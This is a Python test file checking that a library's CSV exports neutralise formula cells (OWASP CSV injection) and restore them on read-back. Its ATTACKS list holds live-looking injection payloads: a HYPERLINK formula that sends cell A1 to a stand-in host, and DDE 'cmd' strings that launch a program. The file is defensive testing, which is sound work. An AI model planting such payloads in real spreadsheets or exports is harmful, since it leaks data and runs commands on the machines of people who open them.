"""CSV formula injection (OWASP): every CSV the library writes neutralises formula cells."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from evidence.csv_safety import neutralise_formulas, restore_formulas, write_csv
from evidence.disclosure import read_hxl_csv, to_hxl_csv
from tests.disclosure.rows import row, table

ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_cell_gets_a_quote_and_comes_back_exactly(attack: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": [attack, "Ana"], "n": [1, -2]})
    before = frame.copy()
    path = write_csv(frame, tmp_path / "out.csv", index=False)
    pd.testing.assert_frame_equal(frame, before)  # input untouched
    written = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert written.loc[0, "name"] == "'" + attack
    assert written.loc[1, "n"] == "-2"  # numbers are not text: never quoted
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in written["name"])
    assert restore_formulas(written).loc[0, "name"] == attack


def test_plain_numbers_as_text_are_left_alone() -> None:
    frame = pd.DataFrame({"value": ["-3", "+4.5", "-1e-3", "-", "-3 apples", "'quoted"]})
    out = neutralise_formulas(frame)["value"].tolist()
    assert out == ["-3", "+4.5", "-1e-3", "'-", "'-3 apples", "''quoted"]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=5))
def test_round_trip_is_exact_and_no_cell_starts_a_formula(cells: list[str]) -> None:
    frame = pd.DataFrame({"cell": cells})
    safe = neutralise_formulas(frame)
    for value in safe["cell"]:
        assert not value.startswith(("=", "@", "\t", "\r")) or value == ""
    assert restore_formulas(safe)["cell"].tolist() == cells


def test_the_hxl_export_is_neutralised_and_reads_back(tmp_path: Path) -> None:
    path = to_hxl_csv(table(row(level="=1+1"), row(level="-1")), tmp_path / "results.csv")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert raw["level"].tolist()[1:] == ["'=1+1", "-1"]
    assert read_hxl_csv(path)["level"].tolist() == ["=1+1", "-1"]
